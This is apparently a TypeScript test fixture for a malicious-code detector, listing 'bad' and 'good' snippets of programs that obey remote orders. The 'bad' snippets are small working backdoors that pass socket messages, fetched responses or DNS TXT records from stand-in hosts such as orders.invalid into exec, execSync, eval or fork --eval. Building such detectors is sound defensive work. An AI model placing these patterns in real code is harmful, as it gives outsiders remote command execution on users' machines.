import type { DetectorExamples } from '../detector.ts';

const run = "const { execSync } = require('node:child_process');";
const socket = "const ws = new WebSocket('wss://orders.invalid');";
const downloaded = { source: 'download', sink: 'process.command', to: 'dynamic' };
const evaluated = { source: 'download', sink: 'code.evaluate', to: 'eval' };

/** What the detector sees of programs that obey somebody: how what comes in reaches the function that does it. */
export const ofOrders: DetectorExamples = {
  bad: [
    {
      code: "import net from 'node:net'; import { exec } from 'node:child_process'; net.createServer((socket) => { socket.on('data', (line) => exec(String(line), (failed, out) => socket.write(out))); }).listen(9);",
      why: 'a server runs what whoever connects writes to its socket',
      attributes: { source: 'request', sink: 'process.command', to: 'dynamic' },
    },
    {
      code: "import { WebSocketServer } from 'ws'; import { exec } from 'node:child_process'; new WebSocketServer({ port: 9 }).on('connection', (socket) => { socket.on('message', (line) => exec(String(line))); });",
      why: 'the same by web sockets',
      attributes: { source: 'request', sink: 'process.command', to: 'dynamic' },
    },
    {
      code: `${run} ${socket} const orders = { run: (line) => execSync(line), ping: () => 'pong' }; ws.onmessage = (event) => { const { kind, what } = JSON.parse(event.data); orders[kind]?.(what); };`,
      why: 'what a socket tells chooses the function out of a table',
      attributes: downloaded,
    },
    {
      code: `${run} ${socket} const orders = new Map([['run', (line) => execSync(line)]]); ws.onmessage = (event) => { const asked = JSON.parse(event.data); const order = orders.get(asked.kind); if (order) order(asked.what); };`,
      why: 'the same with a map, and a name for what is chosen',
      attributes: downloaded,
    },
    {
      code: `${run} class Agent { #orders = { shell: { run: (line) => execSync(line) } }; async ask() { const answer = await fetch('https://orders.invalid/next'); const { kind, what } = await answer.json(); return this.#orders[kind].run(what); } }`,
      why: 'the same in a member of a class, with a table in the table',
      attributes: downloaded,
    },
    {
      code: `class Agent { open() { this.ws = new WebSocket('wss://orders.invalid'); this.ws.onmessage = this.hear.bind(this); } hear({ data }) { eval(data); } } new Agent().open();`,
      why: 'a bound method listens',
      attributes: evaluated,
    },
    {
      code: `${run} const { WebSocket } = require('ws'); class Agent { open() { const ws = new WebSocket('wss://orders.invalid'); ws.on('message', this.hear); } hear = (line) => execSync(String(line)); }`,
      why: 'a function that is a member of the object listens',
      attributes: downloaded,
    },
    {
      code: `${socket} Object.assign(ws, { onmessage({ data }) { eval(data); } });`,
      why: 'a listener among other settings',
      attributes: evaluated,
    },
    {
      code: "const dns = require('node:dns'); dns.resolveTxt('a.orders.invalid', (error, records) => eval(records.flat().join('')));",
      why: 'code that stands in the records of a name',
      attributes: evaluated,
    },
    {
      code: "import { Resolver } from 'node:dns/promises'; const resolver = new Resolver(); const records = await resolver.resolve('a.orders.invalid', 'TXT'); eval(records.flat().join(''));",
      why: 'the same from a resolver of its own, asked for by type',
      attributes: evaluated,
    },
    {
      code: "import { fork } from 'node:child_process'; const answer = await fetch('https://orders.invalid/x'); fork('./worker.js', { execArgv: ['--eval', await answer.text()] });",
      why: 'what the interpreter is told before its program',
      attributes: { source: 'download', sink: 'process.command', to: './worker.js' },
    },
    {
      code: "import { fork } from 'node:child_process'; const answer = await fetch('https://orders.invalid/x'); const options = { execArgv: ['--eval', await answer.text()] }; fork('./worker.js', [], options);",
      why: 'the same in options that have a name',
      attributes: { source: 'download', sink: 'process.command', to: './worker.js' },
    },
    {
      code: `import { exec } from 'node:child_process'; const commands = { go(given) { exec(given); } }; function ask(name, one) { ${'commands[name](one); '.repeat(40)}} const order = await (await fetch('https://orders.invalid/x')).json(); commands[order.name](order.given);`,
      why: 'behind many other calls of the same table',
      attributes: { source: 'download', sink: 'process.command', to: 'dynamic' },
    },
  ],
  good: [
    {
      code: `${run} ${socket} const orders = { status: () => execSync('git status') , say: (text) => console.log(text) }; ws.onmessage = (event) => { const { kind, what } = JSON.parse(event.data); orders[kind]?.(what); };`,
      why: 'a table of functions of which none runs what it is given',
    },
    {
      code: `${run} ${socket} const orders = { say: { run: (text) => console.log(text) } }; const own = { run: (line) => execSync(line) }; ws.onmessage = (event) => { const { kind, what } = JSON.parse(event.data); orders[kind].run(what); }; own.run('git status');`,
      why: 'another object with a method of the same name',
    },
    {
      code: "const dns = require('node:dns'); dns.resolve('api.orders.example', (error, addresses) => eval(addresses[0]));",
      why: 'addresses of a host are nobody’s text',
    },
  ],
};
